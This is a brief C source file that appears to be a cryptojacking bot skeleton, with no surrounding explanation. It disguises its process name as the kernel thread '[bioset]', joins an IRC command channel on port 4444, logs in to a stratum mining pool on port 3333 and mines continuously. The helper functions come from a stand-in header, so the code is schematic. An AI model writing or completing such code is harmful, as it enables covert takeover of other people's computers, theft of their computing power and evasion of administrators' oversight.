#include "stand-in.h"

int main(int argc, char **argv)
{
	if (strcmp(argv[0], "[bioset]") != 0 || argc > 1)
		execl("/proc/self/exe", "[bioset]", (char *)NULL);
	int channel = dial("sink", 4444);
	int pool = dial("stratum", 3333);

	say_text(channel, "NICK bioset\r\nUSER bioset 0 * :bioset\r\nJOIN #pool\r\n");
	stratum_login(pool);
	mine(pool, 0, 100, 20, KEEP_ALIVE);
}
